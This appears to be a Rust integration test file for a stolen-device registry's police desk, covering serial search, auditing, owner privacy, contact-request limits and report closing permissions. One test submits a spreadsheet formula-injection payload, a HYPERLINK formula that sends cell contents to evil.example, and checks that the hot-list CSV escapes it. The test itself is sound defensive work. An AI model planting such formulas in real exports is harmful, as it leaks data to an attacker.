//! The police desk over HTTP: close-match search quality on a fixed set (labelled; the public
//! never gets close matches), every search audited, case files with lookups, contact requests
//! that never reveal the owner, filing and recovering reports (owners told, lookups
//! following), the hot list; on both engines.

use crate::both_engines;
use crate::common::{Engine, TestApp, location};
use serialtrace::account::Role;

/// A staff member, an officer of the Harbour Police (officer@DOMAIN) and an owner
/// (owner@DOMAIN), each signed in.
async fn desk(app: &TestApp, domain: &str) -> (reqwest::Client, reqwest::Client, reqwest::Client) {
    let (staff, _) = app.two_staff().await;
    let (officer, owner) = (format!("officer@{domain}"), format!("owner@{domain}"));
    app.user(&officer, Some(Role::Police), None, Some("Harbour Police"))
        .await;
    app.user(&owner, None, None, None).await;
    (
        staff,
        app.signed_in(&officer).await,
        app.signed_in(&owner).await,
    )
}

async fn officers_search_file_recover_and_reach_owners(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let (staff, officer, owner) = desk(&app, "police.test").await;

    // A fixed set: three new laptops, the owner's one reported by the police.
    let serials = app.generate(&staff, "HC-L14", 3).await;
    let unit = app.registered(&owner, &serials[0], None).await;
    let _ = unit;
    let response = app
        .post_form(
            &officer,
            "/police",
            &[
                ("serial", &serials[0]),
                ("report_kind", "stolen"),
                ("case_number", ""),
            ],
        )
        .await;
    assert_eq!(response.status().as_u16(), 422, "a case number is needed");
    let response = app
        .post_form(
            &officer,
            "/police",
            &[
                ("serial", &serials[0]),
                ("report_kind", "stolen"),
                ("case_number", "HP-77"),
                ("place", "Quay 4"),
            ],
        )
        .await;
    assert_eq!(response.status().as_u16(), 303);
    let case = location(&response);
    assert!(case.starts_with("/police/reports/"), "{case}");
    let mail = app.mail_to("owner@police.test", "police_report").await;
    assert!(
        mail.contains("Harbour Police") && mail.contains("HP-77"),
        "{mail}"
    );
    let (_, answer) = app.api_lookup(&serials[0]).await;
    assert_eq!(answer["matches"][0]["stolen"]["status"], "reported_stolen");
    let response = app
        .post_form(
            &officer,
            "/police",
            &[
                ("serial", &serials[0]),
                ("report_kind", "stolen"),
                ("case_number", "HP-78"),
            ],
        )
        .await;
    assert_eq!(response.status().as_u16(), 422, "reported already");

    // Search quality: exact, look-alike, one and two characters off, part of the serial.
    let reported = serials[0].clone();
    let lookalike: String = reported
        .chars()
        .map(|c| if c == '0' { 'O' } else { c })
        .collect();
    let mut one_off = reported.clone();
    one_off.pop();
    let two_off = format!("{}Z", &reported[..reported.len() - 2]);
    let part = reported[2..9].to_owned();
    for (query, label) in [
        (reported.clone(), "exact"),
        (lookalike.clone(), "look-alike characters"),
        (one_off.clone(), "close: 1 character apart"),
        (two_off.clone(), "close: 2 characters apart"),
        (part.clone(), "part of the serial"),
    ] {
        let (status, page) = app
            .fetch(&officer, &format!("/police?serial={query}"))
            .await;
        assert_eq!(status, 200);
        assert!(page.contains(&reported), "{query} finds {reported}: {page}");
        assert!(
            page.contains(&format!("data-match=\"{label}\"")),
            "{query} is labelled {label}"
        );
    }
    let (_, page) = app.fetch(&officer, "/police?serial=ZZZZZZZZZZ9").await;
    assert!(page.contains("No open report matches"), "{page}");
    let (_, page) = app
        .fetch(
            &officer,
            &format!("/police?serial={reported}&manufacturer=nordvik"),
        )
        .await;
    assert!(
        page.contains("No open report matches"),
        "scoped to another manufacturer"
    );
    // The public gets no close matches.
    let (_, public) = app.api_lookup(&one_off).await;
    assert_ne!(public["result"], "found", "{public}");
    // Every search is in the audit log, with what was searched for.
    let searches: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM audit_log WHERE action = 'police.search' AND actor_role = 'police'",
    )
    .fetch_one(app.db.reader())
    .await
    .unwrap();
    assert_eq!(searches, 7);
    let logged: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM audit_log WHERE action = 'police.search' AND after_json LIKE $1",
    )
    .bind(format!("%{lookalike}%"))
    .fetch_one(app.db.reader())
    .await
    .unwrap();
    assert_eq!(logged, 1);

    // The case file: details, the owner only as "owner on record", the lookups.
    let (status, file) = app.fetch(&officer, &case).await;
    assert_eq!(status, 200);
    assert!(
        file.contains("HP-77") && file.contains("owner on record") && file.contains("Quay 4"),
        "{file}"
    );
    assert!(
        !file.contains("owner@police.test"),
        "the owner is not named"
    );
    assert!(
        file.contains("Lookups of this serial (1)") || file.contains("Lookups of this serial (2)"),
        "{file}"
    );
    // A contact request reaches the owner with the officer's address; the officer gets none.
    let response = app
        .post_form(
            &officer,
            &case,
            &[
                ("action", "contact"),
                ("message", "Please call about your laptop."),
            ],
        )
        .await;
    assert_eq!(response.status().as_u16(), 303);
    let (_, after) = app.fetch(&officer, &location(&response)).await;
    assert!(!after.contains("owner@police.test"));
    let mail = app.mail_to("owner@police.test", "police_contact").await;
    assert!(
        mail.contains("officer@police.test") && mail.contains("Please call about your laptop."),
        "{mail}"
    );

    // The hot list: this agency's open reports.
    let response = officer
        .get(format!("{}/police/hotlist.csv", app.base))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    let csv = response.text().await.unwrap();
    assert!(
        csv.starts_with("serial,manufacturer,model,kind,agency,case_number"),
        "{csv}"
    );
    assert!(
        csv.contains(&reported) && csv.lines().skip(1).all(|l| l.contains("Harbour Police")),
        "{csv}"
    );
    let all = officer
        .get(format!("{}/police/hotlist.csv?agency=all", app.base))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        all.lines().count() > csv.lines().count(),
        "all agencies' reports"
    );

    // Recovered: lookups follow, the owner is told.
    let response = app
        .post_form(
            &officer,
            &case,
            &[
                ("action", "recover"),
                ("recovered_place", "Pawn shop, Dock St"),
                ("reason", "Found in a pawn shop; the owner identified it."),
            ],
        )
        .await;
    assert_eq!(response.status().as_u16(), 303);
    for _ in 0..40 {
        let (_, answer) = app.api_lookup(&reported).await;
        if answer["matches"][0]["stolen"]["status"] == "not_reported" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let (_, answer) = app.api_lookup(&reported).await;
    assert_eq!(answer["matches"][0]["stolen"]["status"], "not_reported");
    let again = app
        .post_form(
            &officer,
            &case,
            &[("action", "recover"), ("reason", "Found twice?")],
        )
        .await;
    assert_eq!(again.status().as_u16(), 422);

    // Only the police reach the desk.
    assert_eq!(app.fetch(&owner, "/police").await.0, 403);
    assert_eq!(
        owner
            .get(format!("{}/police/hotlist.csv", app.base))
            .header("accept", "text/html")
            .send()
            .await
            .unwrap()
            .status()
            .as_u16(),
        403
    );
}
both_engines!(officers_search_file_recover_and_reach_owners);

/// What owners type reaches the officers' hot list as text, never as a spreadsheet formula
/// (security review, finding 5).
async fn typed_text_reaches_the_hot_list_as_text_not_formulas(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let (staff, officer, owner) = desk(&app, "formula.test").await;
    let serials = app.generate(&staff, "HC-L14", 1).await;
    let unit = app.registered(&owner, &serials[0], None).await;
    let place = "=HYPERLINK(\"https://evil.example/?\"&B2,\"Details\")";
    let response = app
        .post_form(
            &owner,
            &format!("/my/products/{unit}"),
            &[
                ("action", "report"),
                ("report_kind", "stolen"),
                ("place", place),
                ("agency", "Harbour Police"),
                ("case_number", "+1-555-0100"),
            ],
        )
        .await;
    assert_eq!(response.status().as_u16(), 303);
    let csv = officer
        .get(format!("{}/police/hotlist.csv", app.base))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let row = csv
        .lines()
        .find(|line| line.starts_with(&serials[0]))
        .unwrap_or_else(|| panic!("the report is listed: {csv}"));
    assert!(
        row.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"Details\"\")\"")
            && row.contains(",'+1-555-0100,"),
        "{row}"
    );
    // No cell of the list starts a formula.
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{line}");
        }
    }
}
both_engines!(typed_text_reaches_the_hot_list_as_text_not_formulas);

/// The public stolen status of `serial`, once the answer has caught up (or as it is after 2 s).
async fn stolen_status(app: &TestApp, serial: &str, want: &str) -> String {
    for _ in 0..40 {
        let (_, answer) = app.api_lookup(serial).await;
        let status = answer["matches"][0]["stolen"]["status"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        if status == want {
            return status;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let (_, answer) = app.api_lookup(serial).await;
    answer["matches"][0]["stolen"]["status"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

/// Files a police report for `serial`: its case file's path.
async fn file(app: &TestApp, officer: &reqwest::Client, serial: &str, case: &str) -> String {
    let response = app
        .post_form(
            officer,
            "/police",
            &[
                ("serial", serial),
                ("report_kind", "stolen"),
                ("case_number", case),
            ],
        )
        .await;
    assert_eq!(response.status().as_u16(), 303);
    location(&response)
}

/// Security review, finding 10: a report is closed (recovered or withdrawn) only by the
/// officers of the agency it names or an administrator, always with a reason that is
/// audited; an officer's contact requests are limited per day.
async fn only_the_reports_agency_closes_it_and_contact_requests_are_limited(engine: Engine) {
    let app = TestApp::spawn(engine).await;
    let (staff, harbour, owner) = desk(&app, "scope.test").await;
    app.user(
        "river@scope.test",
        Some(Role::Police),
        None,
        Some("River Police"),
    )
    .await;
    let river = app.signed_in("river@scope.test").await;
    app.user("root@scope.test", Some(Role::Admin), None, None)
        .await;
    let admin = app.signed_in("root@scope.test").await;
    let serials = app.generate(&staff, "HC-L14", 3).await;
    let mut units = Vec::new();
    for serial in &serials {
        units.push(app.registered(&owner, serial, None).await);
    }
    let ours = file(&app, &harbour, &serials[0], "HP-1").await;
    let theirs = file(&app, &river, &serials[1], "RP-1").await;

    // Another agency's report: refused, and the unit stays reported.
    let response = app
        .post_form(
            &harbour,
            &theirs,
            &[("action", "recover"), ("reason", "Looks found to me.")],
        )
        .await;
    assert_eq!(response.status().as_u16(), 403);
    let page = response.text().await.unwrap();
    assert!(page.contains("This report is River Police's"), "{page}");
    assert_eq!(
        stolen_status(&app, &serials[1], "reported_stolen").await,
        "reported_stolen"
    );
    let (_, case) = app.fetch(&harbour, &theirs).await;
    assert!(
        !case.contains("Mark recovered") && case.contains("its officers, or an administrator"),
        "{case}"
    );

    // Nor can the unit's manufacturer close a police report from its theft queue: it is not
    // offered, and asked for anyway it is refused, the unit still reported.
    let report_id = theirs
        .rsplit('/')
        .next()
        .and_then(|last| last.split('?').next())
        .unwrap()
        .to_owned();
    let (_, queue) = app.fetch(&staff, "/staff/thefts").await;
    let card = queue
        .split(&format!("id=\"report-{report_id}\""))
        .nth(1)
        .and_then(|rest| rest.split("</li>").next())
        .unwrap_or_else(|| panic!("report {report_id} is in the queue: {queue}"));
    assert!(
        !card.contains("Mark recovered") && card.contains("Filed by the police"),
        "{card}"
    );
    for action in ["recover", "withdraw"] {
        let response = app
            .post_form(
                &staff,
                "/staff/thefts",
                &[("action", action), ("report_id", &report_id)],
            )
            .await;
        assert_eq!(response.status().as_u16(), 403, "{action}");
        assert!(
            response
                .text()
                .await
                .unwrap()
                .contains("filed by the police"),
            "{action}"
        );
    }
    assert_eq!(
        stolen_status(&app, &serials[1], "reported_stolen").await,
        "reported_stolen"
    );

    // One's own agency's report: a reason is needed, then it is withdrawn, the owner told
    // and the reason audited.
    let response = app
        .post_form(&harbour, &ours, &[("action", "withdraw"), ("reason", "")])
        .await;
    assert_eq!(response.status().as_u16(), 422);
    assert!(response.text().await.unwrap().contains("Say why"));
    assert_eq!(
        stolen_status(&app, &serials[0], "reported_stolen").await,
        "reported_stolen"
    );
    let response = app
        .post_form(
            &harbour,
            &ours,
            &[
                ("action", "withdraw"),
                ("reason", "Filed against the wrong serial."),
            ],
        )
        .await;
    assert_eq!(response.status().as_u16(), 303);
    assert!(location(&response).ends_with("?done=withdrawn"));
    assert_eq!(
        stolen_status(&app, &serials[0], "not_reported").await,
        "not_reported"
    );
    let mail = app.mail_to("owner@scope.test", "police_report").await;
    assert!(
        mail.contains("withdrawn") && mail.contains("Filed against the wrong serial."),
        "{mail}"
    );
    let audited: String = sqlx::query_scalar(
        "SELECT after_json FROM audit_log WHERE action = 'theft.withdraw' ORDER BY id DESC LIMIT 1",
    )
    .fetch_one(app.db.reader())
    .await
    .expect("the withdrawal is audited");
    assert!(
        audited.contains("Filed against the wrong serial."),
        "{audited}"
    );

    // An administrator closes any agency's report, from the same case file, and asks no owner.
    let (status, case) = app.fetch(&admin, &theirs).await;
    assert_eq!(status, 200);
    assert!(
        case.contains("Mark recovered") && !case.contains("Ask the owner"),
        "{case}"
    );
    let response = app
        .post_form(
            &admin,
            &theirs,
            &[("action", "contact"), ("message", "hello")],
        )
        .await;
    assert_eq!(response.status().as_u16(), 403);
    let response = app
        .post_form(
            &admin,
            &theirs,
            &[
                ("action", "recover"),
                ("reason", "River Police asked us by phone, ticket 88."),
            ],
        )
        .await;
    assert_eq!(response.status().as_u16(), 303);
    assert_eq!(
        stolen_status(&app, &serials[1], "not_reported").await,
        "not_reported"
    );
    let role: String = sqlx::query_scalar(
        "SELECT actor_role FROM audit_log WHERE action = 'theft.recover' ORDER BY id DESC LIMIT 1",
    )
    .fetch_one(app.db.reader())
    .await
    .expect("the recovery is audited");
    assert_eq!(role, "admin");
    assert_eq!(
        app.fetch(&admin, "/police").await.0,
        403,
        "the search desk stays the police's"
    );

    // An owner's report that names no agency: no officer closes it.
    let response = app
        .post_form(
            &owner,
            &format!("/my/products/{}", units[2]),
            &[
                ("action", "report"),
                ("report_kind", "stolen"),
                ("place", "Station car park"),
            ],
        )
        .await;
    assert_eq!(response.status().as_u16(), 303);
    let report: i64 = sqlx::query_scalar(
        "SELECT t.id FROM theft_reports t JOIN units u ON u.id = t.unit_id
         WHERE u.serial_raw = $1 AND t.status = 'active'",
    )
    .bind(&serials[2])
    .fetch_one(app.db.reader())
    .await
    .expect("the owner's report");
    let owners_case = format!("/police/reports/{report}");
    let response = app
        .post_form(
            &harbour,
            &owners_case,
            &[("action", "recover"), ("reason", "Seen it at the market.")],
        )
        .await;
    assert_eq!(response.status().as_u16(), 403);
    assert!(
        response
            .text()
            .await
            .unwrap()
            .contains("names no police agency")
    );

    // Contact requests: 20 a day per officer, then refused with the reason; sent all at
    // once, they are counted under one lock, so no more than 20 pass.
    let messages: Vec<String> = (0..24).map(|i| format!("Request {i}")).collect();
    let forms: Vec<[(&str, &str); 2]> = messages
        .iter()
        .map(|message| [("action", "contact"), ("message", message.as_str())])
        .collect();
    let statuses = futures::future::join_all(
        forms
            .iter()
            .map(|form| app.post_form(&harbour, &owners_case, form)),
    )
    .await
    .into_iter()
    .map(|response| response.status().as_u16())
    .collect::<Vec<_>>();
    assert_eq!(
        (
            statuses.iter().filter(|s| **s == 303).count(),
            statuses.iter().filter(|s| **s == 429).count()
        ),
        (20, 4),
        "{statuses:?}"
    );
    let response = app
        .post_form(
            &harbour,
            &owners_case,
            &[("action", "contact"), ("message", "One more")],
        )
        .await;
    assert_eq!(response.status().as_u16(), 429);
    assert!(
        response
            .text()
            .await
            .unwrap()
            .contains("20 contact requests today")
    );
    let sent: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM outbox WHERE kind = 'police_contact' AND to_address = 'owner@scope.test'",
    )
    .fetch_one(app.db.reader())
    .await
    .expect("the outbox");
    assert_eq!(sent, 20, "the refused request sent nothing");
    // Another officer's allowance is their own.
    let response = app
        .post_form(
            &river,
            &owners_case,
            &[("action", "contact"), ("message", "From the river.")],
        )
        .await;
    assert_eq!(response.status().as_u16(), 303);
}
both_engines!(only_the_reports_agency_closes_it_and_contact_requests_are_limited);
